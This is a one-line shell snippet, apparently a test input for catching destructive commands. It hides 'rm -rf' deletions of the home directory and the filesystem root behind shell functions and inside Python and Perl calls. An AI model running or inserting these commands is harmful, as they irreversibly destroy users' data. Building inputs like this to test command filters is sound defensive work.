f(){ g "$1"; }; g(){ rm -rf "$1"; }; f ~; for d in /a /b; do rm $d; done; python3 -c 'import os; os.system("rm -rf ~")'; perl -e 'system "rm", "-rf", "/"'
